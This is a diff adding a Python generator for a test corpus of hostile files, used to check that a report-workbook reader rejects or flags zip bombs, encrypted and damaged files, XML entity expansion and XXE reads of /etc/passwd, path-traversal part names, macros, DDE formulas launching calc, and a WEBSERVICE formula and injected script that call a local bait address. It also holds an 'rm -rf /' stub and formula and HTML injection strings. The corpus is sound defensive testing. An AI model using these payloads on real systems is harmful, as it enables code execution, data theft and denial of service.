@@ -1,0 +1,438 @@
+"""The hostile files (恶意文件): each is made here, by a few lines that say what is wrong with it, with what a check has to
+say of it. ``python tests/hostile/corpus.py FOLDER`` writes them all.
+
+Beside them stand ten good workbooks, whose results nothing may touch.
+"""
+
+import io
+import json
+import sys
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, replace
+from functools import cache
+from pathlib import Path
+
+import msoffcrypto.format.ooxml
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+import kit
+import pdf_files
+import word_files
+from packages import (
+    MACRO_TYPE,
+    WORKBOOK_TYPE,
+    marked_encrypted,
+    overlapping,
+    packed,
+    parts_of,
+    related,
+    replaced,
+    wide_directory,
+    with_false_size,
+)
+
+from toolkit.data_file import to_data
+from toolkit.reports.content import report_of
+from toolkit.reports.page import report_page
+from toolkit.workbook.template import build_workbook
+
+GOOD = 10
+BAIT = "http://127.0.0.1:18427"
+"""An address that is listened at while the commands run: nobody may ask there."""
+PASSWORD = "一二三456"
+SHEET = "xl/worksheets/sheet4.xml"
+"""The sheet of the largest table."""
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """A file: what it is called, what is in it, and what is to come of it in a check: `status`, and the cause why it
+    gave nothing, or rules that have to find something."""
+
+    name: str
+    content: bytes
+    status: str
+    ids: tuple[str, ...] = ()
+
+
+Made = Callable[[], Iterator[Hostile]]
+
+
+@cache
+def good(number: int = 0) -> bytes:
+    """A filled workbook without a fault, another agency's for each number."""
+    return build_workbook(replace(kit.report("suqian-2024"), agency=f"第{number}局" if number else "宿迁市人民政府"))
+
+
+@cache
+def _parts() -> dict[str, bytes]:
+    return parts_of(good())
+
+
+def unreadable(name: str, content: bytes, cause: str) -> Hostile:
+    return Hostile(name, content, "unreadable", (cause,))
+
+
+def carrying(name: str, parts: dict[str, bytes], *rules: str) -> Hostile:
+    return Hostile(name, packed(parts), "passed", rules)
+
+
+def cut_and_broken() -> Iterator[Hostile]:
+    """Files that are empty, cut off or damaged on the way."""
+    whole = good()
+    yield unreadable("空.xlsx", b"", "empty")
+    yield unreadable("只有开头.xlsx", b"PK\x03\x04", "damaged")
+    yield unreadable("一半.xlsx", whole[: len(whole) // 2], "damaged")
+    yield unreadable("少了末尾.xlsx", whole[:-30], "damaged")
+    middle = whole.find(SHEET.encode()) + 200
+    yield unreadable("中间坏了.xlsx", whole[:middle] + bytes(40) + whole[middle + 40 :], "damaged")
+    yield unreadable("全是零.xlsx", bytes(50_000), "other-kind")
+    yield Hostile("后面有别的.xlsx", whole + b"<script>" * 100, "passed")
+    yield unreadable(
+        "没有工作簿部件.xlsx", packed({k: v for k, v in _parts().items() if k != "xl/workbook.xml"}), "not-a-form"
+    )
+    yield unreadable("坏了的XML.xlsx", packed(replaced(_parts(), "xl/workbook.xml", b"</workbook>", b"")), "damaged")
+
+
+def of_another_kind() -> Iterator[Hostile]:
+    """Files of another kind under the name of a workbook."""
+    starts = {
+        "程序.xlsx": b"MZ\x90\x00" + bytes(500),
+        "脚本.xlsx": b"#!/bin/sh\nrm -rf /\n",
+        "压缩包rar.xlsx": b"Rar!\x1a\x07\x01\x00" + bytes(500),
+        "压缩包7z.xlsx": b"7z\xbc\xaf\x27\x1c" + bytes(500),
+        "压缩包gz.xlsx": b"\x1f\x8b\x08\x00" + bytes(500),
+        "富文本.xlsx": b"{\\rtf1\\ansi " + b"x" * 500 + b"}",
+        "快捷方式.xlsx": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(500),
+        "图片.xlsx": b"\x89PNG\r\n\x1a\n" + bytes(500),
+        "数据库.xlsx": b"SQLite format 3\x00" + bytes(500),
+        "别的XML.xlsx": b'<?xml version="1.0"?><a/>',
+        "乱码.xlsx": bytes(range(256)) * 20,
+        "压缩包.xlsx": packed({"甲.txt": b"x"}),
+        "二进制工作簿.xlsx": packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\0"}),
+        "演示文稿.xlsx": packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
+        "文档odt.xlsx": packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
+    }
+    yield from (unreadable(name, content, "other-kind") for name, content in starts.items())
+    yield unreadable("逗号分隔.xlsx", "机关,数\n甲局,1\n".encode("gb18030"), "content")
+    page = "<html><body><table><tr><td>甲</td><td>1</td></tr></table></body></html>"
+    yield unreadable("网页.xls", page.encode(), "content")
+    yield unreadable("复合文档.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "damaged")
+
+
+def locked() -> Iterator[Hostile]:
+    """Files that have a password."""
+    yield unreadable("有密码.xlsx", encrypted(PASSWORD), "encrypted")
+    yield Hostile("只读保存.xlsx", encrypted("VelvetSweatshop"), "passed", ("file-locked",))
+    yield unreadable("有密码断了.xlsx", encrypted(PASSWORD)[:9000], "encrypted")
+    yield unreadable("部件有密码.xlsx", marked_encrypted(good()), "encrypted")
+    yield unreadable("密码算不完.xlsx", _slow_to_unlock(), "over-time")
+
+
+def encrypted(password: str, content: bytes = b"") -> bytes:
+    out = io.BytesIO()
+    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(content or good())).encrypt(password, out)
+    return out.getvalue()
+
+
+def _slow_to_unlock() -> bytes:
+    """A locked file whose key is to be made in ten thousand million steps; what says so is as long as it was."""
+    content = encrypted(PASSWORD)
+    start = content.find(b"<?xml")
+    said = content[start : content.find(b"</encryption>", start)]
+    more = said.replace(b'spinCount="100000"', b'spinCount="9999999999"').replace(b' standalone="yes"', b"", 1)
+    assert len(said) >= len(more) > said.count(b"x"), "there is room for it"
+    return content.replace(said, more.replace(b"?>", b"?>" + b" " * (len(said) - len(more)), 1))
+
+
+def bombs() -> Iterator[Hostile]:
+    """Small files that would unpack to very much."""
+    parts = _parts()
+    yield unreadable("一个大部件.xlsx", packed({**parts, "xl/media/a.bin": 900 * 2**20}), "too-large")
+    many = {f"xl/media/{number}.bin": 9 * 2**20 for number in range(30)}
+    yield unreadable("许多部件.xlsx", packed({**parts, **many}), "too-large")
+    yield unreadable("压得太紧.xlsx", packed({**parts, "xl/sharedStrings.xml": 60 * 2**20}), "too-large")
+    small = packed({**parts, "xl/media/a.bin": 30 * 2**20})
+    yield unreadable("说得小.xlsx", with_false_size(small, "xl/media/a.bin", 100), "damaged")
+    yield unreadable("说得大.xlsx", with_false_size(small, "xl/media/a.bin", 2**31), "too-large")
+    yield unreadable("重叠.xlsx", overlapping(900, 2**20), "too-large")
+    yield unreadable("六千个部件.xlsx", packed({**parts, **{f"xl/media/{n}": b"" for n in range(6000)}}), "too-large")
+    yield unreadable("目录太长.xlsx", wide_directory(400_000), "too-large")
+    inner = packed({"a.xlsx": 150 * 2**20})
+    yield unreadable("包中包.zip", packed({"b.zip": packed({"c.zip": inner})}), "too-large")
+    yield unreadable("文件太大.xlsx", b"PK\x03\x04" + bytes(101 * 2**20), "too-large")
+
+
+def entities() -> Iterator[Hostile]:
+    """XML that grows without end or wants to read other files."""
+    laughs = '<!ENTITY a0 "哈">' + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
+    growing = f'<?xml version="1.0"?><!DOCTYPE x [{laughs}]><sst><si><t>&a12;</t></si></sst>'
+    reading = (
+        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>&f;</t></si></sst>'
+    )
+    outside = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{BAIT}/x.dtd"><sst/>'
+    for name, text in (("十亿个哈", growing), ("读别的文件", reading), ("外部定义", outside)):
+        yield unreadable(f"{name}.xlsx", packed({**_parts(), "xl/sharedStrings.xml": text.encode()}), "unsafe")
+    yield unreadable("两字节.xlsx", packed({**_parts(), "xl/workbook.xml": growing.encode("utf-16")}), "unsafe")
+    seven = reading.replace("?>", ' encoding="UTF-7"?>', 1).replace("<!", "+ADwAIQ-")
+    yield unreadable("别的编码.xlsx", packed({**_parts(), "xl/workbook.xml": seven.encode()}), "damaged")
+    for name, text in (("文档实体", growing), ("文档读文件", reading)):
+        content = word_files.docx(word_files.p("字"), replaced={"word/document.xml": text.encode()})
+        yield unreadable(f"{name}.docx", content, "unsafe")
+
+
+def climbing() -> Iterator[Hostile]:
+    """Parts whose names lead elsewhere, or stand twice."""
+    for name, part in (
+        ("往上爬", "../../../../tmp/爬出来.txt"),
+        ("从根起", "/etc/爬出来.txt"),
+        ("带盘符", "C:/Windows/爬出来.txt"),
+        ("反斜杠", "..\\..\\爬出来.txt"),
+        ("中间爬", "xl/../../爬出来.txt"),
+    ):
+        yield unreadable(f"{name}.xlsx", packed(_parts(), ((part, b"x"),)), "unsafe")
+    yield unreadable("部件两次.xlsx", packed(_parts(), ((SHEET, _parts()[SHEET].replace(b"<v>", b"<v>9")),)), "unsafe")
+    yield unreadable("大小写两次.xlsx", packed(_parts(), (("XL/Workbook.xml", b"<workbook/>"),)), "unsafe")
+    book = replaced(_parts(), "xl/_rels/workbook.xml.rels", b"worksheets/sheet4.xml", b"../../../../../etc/passwd")
+    yield unreadable("表指到外面.xlsx", packed(book), "damaged")
+    book = replaced(_parts(), "xl/_rels/workbook.xml.rels", b"worksheets/sheet4.xml", f"{BAIT}/sheet.xml".encode())
+    yield unreadable("表在网上.xlsx", packed(book), "damaged")
+
+
+def riding_along() -> Iterator[Hostile]:
+    """Sound workbooks with what no form has."""
+    parts = _parts()
+    types = replaced(parts, "[Content_Types].xml", WORKBOOK_TYPE, MACRO_TYPE)
+    macros = related(
+        {**types, "xl/vbaProject.bin": b"\xcc\x61" * 500}, "xl/workbook.xml", "m1", "vbaProject", "vbaProject.bin"
+    )
+    yield carrying("宏.xlsm", macros, "macro-carried")
+    yield carrying("宏改名.xlsx", macros, "macro-carried")
+    yield carrying("旧式宏.xlsx", {**parts, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, "macro-carried")
+    yield carrying("自动运行.xlsx", _named("_xlnm.Auto_Open", "二!$A$1"), "macro-carried")
+    yield carrying(
+        "外部链接.xlsx", _linked('<externalBook r:id="r1"/>', "file:///\\\\10.0.0.9\\share\\x.xlsx"), "link-carried"
+    )
+    dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'
+    yield carrying("DDE链接.xlsx", _linked(dde), "dde-carried")
+    yield carrying("DDE公式.xlsx", _with_formula("cmd|'/C calc'!A0"), "dde-carried", "outside-form")
+    yield carrying("取网页.xlsx", _with_formula(f'WEBSERVICE("{BAIT}/?"&amp;A1)'), "link-carried", "outside-form")
+    yield carrying("引用外部.xlsx", _with_formula("[1]表!A1"), "link-carried", "outside-form")
+    yield carrying(
+        "嵌入对象.xlsx", {**parts, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 9}, "object-carried"
+    )
+    yield carrying("控件.xlsx", {**parts, "xl/activeX/activeX1.bin": b"x" * 99}, "object-carried")
+    yield carrying("查询.xlsx", {**parts, "xl/connections.xml": b"<connections/>"}, "query-carried")
+    yield carrying("外部名称.xlsx", _named("甲", "[1]表!$A$1"), "name-outside")
+    yield carrying("网络名称.xlsx", _named("乙", "'\\\\10.0.0.9\\share\\[x.xlsx]表'!$A$1"), "name-outside")
+    outside = related(parts, SHEET, "r9", "image", f"{BAIT}/x.png", outside=True)
+    yield carrying("网上图片.xlsx", outside, "link-carried")
+    yield carrying("隐藏表.xlsx", _with_sheet("hidden"), "sheet-hidden")
+    yield carrying("深藏表.xlsx", _with_sheet("veryHidden"), "sheet-hidden")
+
+
+def _named(name: str, text: str) -> dict[str, bytes]:
+    """A workbook with one more defined name."""
+    new = f'<definedName name="{name}">{text}</definedName>'.encode()
+    parts = _parts()
+    if b"<definedNames>" in parts["xl/workbook.xml"]:
+        return replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + new)
+    return replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + new + b"</definedNames>")
+
+
+def _linked(inside: str, target: str = "") -> dict[str, bytes]:
+    """A workbook with a link to another file or program."""
+    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    space += ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    part = "xl/externalLinks/externalLink1.xml"
+    parts = {**_parts(), part: f"<externalLink {space}>{inside}</externalLink>".encode()}
+    if target:
+        parts = related(parts, part, "r1", "externalLinkPath", target, outside=True)
+    return related(parts, "xl/workbook.xml", "l1", "externalLink", "externalLinks/externalLink1.xml")
+
+
+def _with_formula(formula: str) -> dict[str, bytes]:
+    """A workbook with a formula in a cell beside the table."""
+    cell = f'<row r="60"><c r="L60"><f>{formula}</f><v>0</v></c></row></sheetData>'
+    return replaced(_parts(), SHEET, b"</sheetData>", cell.encode())
+
+
+def _with_sheet(state: str) -> dict[str, bytes]:
+    """A workbook with one more sheet, which is not shown."""
+    sheet = f'<sheet name="暗" sheetId="99" state="{state}" r:id="x99"/></sheets>'.encode()
+    parts = replaced(_parts(), "xl/workbook.xml", b"</sheets>", sheet)
+    space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
+    return related(
+        {**parts, "xl/worksheets/sheet99.xml": space}, "xl/workbook.xml", "x99", "worksheet", "worksheets/sheet99.xml"
+    )
+
+
+def no_form() -> Iterator[Hostile]:
+    """Workbooks that are none of ours, or say of themselves what cannot be."""
+    identity = _identity_part()
+    for name, old, new in (
+        ("没有标识", b"_gknb", b"_gknx"),
+        ("标识两样", b"</sheets>", b'<sheet name="_gknb" sheetId="98" r:id="rId1"/></sheets>'),
+    ):
+        cause = "not-a-form" if name == "没有标识" else "damaged"
+        yield unreadable(f"{name}.xlsx", packed(replaced(_parts(), "xl/workbook.xml", old, new)), cause)
+    parts = _parts()
+    blank = parts[identity][: parts[identity].find(b"<sheetData>")] + b"<sheetData/></worksheet>"
+    yield unreadable("标识空白.xlsx", packed({**parts, identity: blank}), "not-a-form")
+
+
+def _identity_part() -> str:
+    return max(name for name in _parts() if name.startswith("xl/worksheets/sheet"))
+
+
+def strange_sheets() -> Iterator[Hostile]:
+    """Sheets that no reader could hold, or that take very long."""
+    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+    yield unreadable("远在天边.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", far)), "too-large")
+    near = b"<row><c/><c><v>1</v></c></row>" * 1_500_000 + b"</sheetData>"
+    yield unreadable("百万行.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", near)), "too-large")
+    deep = b"<a>" * 200_000 + b"</a>" * 200_000
+    yield unreadable("层层嵌套.xlsx", packed({**_parts(), "xl/workbook.xml": deep}), "damaged")
+    rows = b"".join(b'<row r="%d"><c r="A%d"><f>A1</f></c></row>' % (n, n) for n in range(50, 120_000))
+    yield Hostile("十万公式.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", rows + b"</sheetData>")), "passed")
+    names = b"".join(b'<definedName name="n%d">A1</definedName>' % n for n in range(300_000))
+    yield Hostile("三十万名称.xlsx", packed(_named_raw(names)), "passed")
+    merged = b"".join(b'<mergeCell ref="L%d:M%d"/>' % (n, n) for n in range(60, 60_000))
+    yield Hostile(
+        "六万合并.xlsx", packed(replaced(_parts(), SHEET, b"</mergeCells>", merged + b"</mergeCells>")), "passed"
+    )
+
+
+def _named_raw(names: bytes) -> dict[str, bytes]:
+    parts = _parts()
+    if b"<definedNames>" in parts["xl/workbook.xml"]:
+        return replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + names)
+    return replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + names + b"</definedNames>")
+
+
+def strange_values() -> Iterator[Hostile]:
+    """Sound workbooks filled in with what would act elsewhere: as a formula, as a page, as the name of a file."""
+    base = kit.report("suqian-2024")
+    for number, agency in enumerate(
+        (
+            "=cmd|'/c calc'!A1",
+            "+1+1",
+            "@SUM(1)",
+            "../../../../tmp/爬出来",
+            "..\\..\\爬出来",
+            "CON",
+            "a:b",
+            "<script>alert(1)</script>",
+            '"><img src=x onerror=alert(1)>',
+            "甲局\u202e\u2066反",
+            "局" * 200,
+            "甲局. ",
+        ),
+        1,
+    ):
+        texts = {section: (agency, *paragraphs) for section, paragraphs in base.texts.items()}
+        made = build_workbook(replace(base, agency=agency, texts=texts))
+        yield Hostile(f"名称{number:02}.xlsx", made, "any")
+
+
+def data_files() -> Iterator[Hostile]:
+    """Data files (JSON) that are wrong in every way."""
+    sound = to_data(kit.report("suqian-2024"))
+    yield unreadable("嵌套.json", b"[" * 200_000, "content")
+    yield unreadable("不是数.json", json.dumps({**sound, "year": float("nan")}).encode(), "content")
+    cell = next(iter(sound["values"]))
+    huge = json.dumps({**sound, "values": {cell: "PLACE"}}).replace('"PLACE"', "9" * 6000)
+    yield unreadable("六千位数.json", huge.encode(), "content")
+    yield Hostile("别的键.json", json.dumps({**sound, "__class__": "os.system"}).encode(), "passed")
+    yield unreadable("不是对象.json", b"[1, 2, 3]", "content")
+    yield unreadable("断了.json", json.dumps(sound).encode()[:500], "content")
+
+
+def published() -> Iterator[Hostile]:
+    """Published reports that are built to hurt."""
+    page = report_page(report_of(kit.report("suqian-2024")))
+    scripted = page.replace(
+        "</body>", f'<script>fetch("{BAIT}")</script><iframe src="file:///etc/passwd"></iframe></body>'
+    )
+    yield Hostile("带脚本.html", scripted.encode(), "any")
+    yield unreadable("深网页.html", b"<html><body>" + b"<div>" * 300_000 + b"x", "content")
+    yield unreadable("大表格.html", b"<html><table>" + b"<tr>" + b"<td>1" * 400_000, "content")
+    yield unreadable(
+        "跨一亿行.html", b'<html><table><tr><td rowspan="100000000" colspan="100000000">1</table>' * 50, "content"
+    )
+    yield unreadable("一长行.txt", "一、总体情况".encode() * 300_000, "content")
+    yield unreadable("全是标题.txt", "一、\n二、\n".encode() * 100_000, "content")
+    deep = word_files.tbl(word_files.tr(word_files.tc(word_files.p("x"))))
+    for _ in range(60):
+        deep = word_files.tbl(word_files.tr(word_files.tc(deep, word_files.p())))
+    yield unreadable("表中表.docx", word_files.docx(deep), "content")
+    yield unreadable(
+        "文档炸弹.docx", word_files.docx(word_files.p("字"), media={"big": bytes(201 * 2**20)}), "too-large"
+    )
+    yield unreadable("坏的.pdf", b"%PDF-1.7\n" + b"1 0 obj<<>>" * 10_000, "content")
+    ring = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n"
+    yield unreadable("转圈.pdf", ring + b"trailer<</Root 1 0 R>>\n%%EOF", "content")
+    stream = pdf_files.stream(b"q " * 30_000_000)
+    yield unreadable("大流.pdf", b"%PDF-1.4\n1 0 obj" + stream + b"endobj", "content")
+
+
+def open_documents() -> Iterator[Hostile]:
+    """Tables in the OpenDocument format."""
+    yield unreadable("一格当百万.ods", _ods('table:number-rows-repeated="1048576"', 16_384), "too-large")
+    yield unreadable("别的表.ods", _ods("", 1), "not-a-form")
+
+
+def _ods(row: str, times: int) -> bytes:
+    """A table of one row, in which one cell stands for so many."""
+    spaces = " ".join(
+        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
+    )
+    cell = f'<table:table-cell table:number-columns-repeated="{times}" office:value-type="float" office:value="1"/>'
+    table = f'<table:table table:name="表"><table:table-row {row}>{cell}</table:table-row></table:table>'
+    body = f"<office:body><office:spreadsheet>{table}</office:spreadsheet></office:body>"
+    content = f"<office:document-content {spaces}>{body}</office:document-content>".encode()
+    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
+    kind = b"application/vnd.oasis.opendocument.spreadsheet"
+    return packed({"mimetype": kind, "content.xml": content, "META-INF/manifest.xml": manifest})
+
+
+KINDS: tuple[Made, ...] = (
+    cut_and_broken,
+    of_another_kind,
+    locked,
+    bombs,
+    entities,
+    climbing,
+    riding_along,
+    no_form,
+    strange_sheets,
+    strange_values,
+    data_files,
+    published,
+    open_documents,
+)
+
+
+def corpus() -> Iterator[Hostile]:
+    """Every hostile file."""
+    for kind in KINDS:
+        yield from kind()
+
+
+def write_corpus(folder: Path) -> list[Hostile]:
+    """Write the hostile files into one folder below, the good ones into another; gives the hostile ones."""
+    (folder / "恶意").mkdir(parents=True)
+    (folder / "好的").mkdir()
+    files = list(corpus())
+    assert len({file.name for file in files}) == len(files), "each has a name of its own"
+    for file in files:
+        (folder / "恶意" / file.name).write_bytes(file.content)
+    for number in range(1, GOOD + 1):
+        (folder / "好的" / f"第{number}局.xlsx").write_bytes(good(number))
+    return files
+
+
+if __name__ == "__main__":
+    for made in write_corpus(Path(sys.argv[1])):
+        print(made.status, ",".join(made.ids), len(made.content), made.name)
